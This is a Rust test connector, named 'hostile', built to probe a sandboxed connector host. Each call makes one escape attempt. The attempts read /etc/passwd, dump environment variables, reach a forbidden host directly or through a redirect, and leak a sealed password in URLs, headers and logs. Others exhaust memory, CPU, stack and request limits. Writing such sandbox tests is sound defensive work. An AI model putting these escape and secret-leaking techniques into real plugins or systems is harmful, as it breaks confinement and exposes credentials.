//! A connector that tries one escape per call. The access document says which (`attack`), and
//! gives what the attack needs: `url` (an allowed server), `target` (`HOST:PORT` of a server
//! that is not allowed, without a scheme so that it is not derived as allowed), `password`
//! (sealed by the host; the connector only ever has the token).
//!
//! The attacks that get something write it to the sink, so that a test can see what leaked.

use red_connector_sdk::http::{self, Body, Request};
use red_connector_sdk::log::{self, Level};
use red_connector_sdk::{export_connector, ConnectorInfo, Error, ErrorKind, Guest, Sink, Source};

struct Hostile;

fn field(access: &serde_json::Value, name: &str) -> String {
    access[name].as_str().unwrap_or_default().to_owned()
}

fn get(url: String, headers: Vec<(String, String)>, body: Body) -> Result<http::Response, Error> {
    let request = Request {
        method: "POST".into(),
        url,
        headers,
        auth: None,
        verify_tls: true,
        follow_redirects: true,
    };
    http::send(&request, &body)
}

fn fail(message: String) -> Error {
    Error::new(ErrorKind::Remote, message)
}

#[inline(never)]
#[allow(unconditional_recursion)]
fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
    pad[(depth % 256) as usize] = depth as u8;
    let mut next = [0u8; 256];
    next[0] = pad[0];
    recurse(depth + 1, &mut next) + u64::from(pad[1])
}

impl Guest for Hostile {
    fn info() -> ConnectorInfo {
        ConnectorInfo {
            name: "hostile".into(),
            version: "0".into(),
            description: "tries to escape".into(),
            access_schema: "{}".into(),
        }
    }

    fn validate_receive(_access: String) -> Result<(), Error> {
        Ok(())
    }

    fn validate_send(_access: String) -> Result<(), Error> {
        Ok(())
    }

    fn receive(access: String, target: Sink) -> Result<(), Error> {
        let doc: serde_json::Value = serde_json::from_str(&access).unwrap_or_default();
        let password = field(&doc, "password");
        match field(&doc, "attack").as_str() {
            "read-passwd" => {
                let bytes = std::fs::read("/etc/passwd").map_err(|e| fail(format!("read: {e}")))?;
                target.write(&bytes)
            }
            "list-root" => {
                let entries = std::fs::read_dir("/").map_err(|e| fail(format!("read_dir: {e}")))?;
                let names: Vec<String> = entries
                    .filter_map(|e| e.ok())
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect();
                target.write(names.join("\n").as_bytes())
            }
            "env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                let args: Vec<String> = std::env::args().collect();
                let cwd = std::env::current_dir()
                    .map(|d| d.display().to_string())
                    .unwrap_or_default();
                let home = std::env::var("HOME").unwrap_or_default();
                let seen = format!("vars={vars:?} args={args:?} cwd={cwd} home={home}");
                target.write(seen.as_bytes())
            }
            "deny-host" => {
                let response = get(
                    format!("http://{}/", field(&doc, "target")),
                    vec![],
                    Body::Empty,
                )?;
                response.copy_to_sink(&target).map(drop)
            }
            "redirect-escape" => {
                let url = format!(
                    "{}/redirect/302?to=http://{}/files/x",
                    field(&doc, "url"),
                    field(&doc, "target")
                );
                let request = Request {
                    method: "GET".into(),
                    url,
                    headers: vec![],
                    auth: None,
                    verify_tls: true,
                    follow_redirects: true,
                };
                http::send(&request, &Body::Empty)?
                    .copy_to_sink(&target)
                    .map(drop)
            }
            "leak-request" => {
                let url = format!("{}/files/leak?p={password}", field(&doc, "url"));
                let headers = vec![("X-Leak".to_owned(), password.clone())];
                get(url, headers, Body::Bytes(password.clone().into_bytes()))?;
                Ok(())
            }
            "leak-log" => {
                log::log(Level::Warn, &format!("the password is {password}"));
                Err(fail(format!("failing with the password {password}")))
            }
            "oom" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    if hoard.len() > 1 << 20 {
                        return Ok(());
                    }
                }
            }
            "spin" => {
                let mut x: u64 = 1;
                loop {
                    x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
                    if x == 0 {
                        return Ok(());
                    }
                }
            }
            "recurse" => {
                let mut pad = [0u8; 256];
                let n = recurse(0, &mut pad);
                target.write(&n.to_le_bytes())
            }
            "write-flood" => {
                let chunk = vec![7u8; 1 << 20];
                // Ignore errors: a limit must stop the connector all the same.
                for _ in 0..10_000 {
                    let _ = target.write(&chunk);
                }
                Ok(())
            }
            "request-flood" => {
                for _ in 0..100_000 {
                    let _ = get(
                        format!("{}/files/x", field(&doc, "url")),
                        vec![],
                        Body::Empty,
                    );
                }
                Ok(())
            }
            other => Err(fail(format!("unknown attack {other:?}"))),
        }
    }

    fn send(_access: String, _source: Source) -> Result<(), Error> {
        Ok(())
    }
}

export_connector!(Hostile);
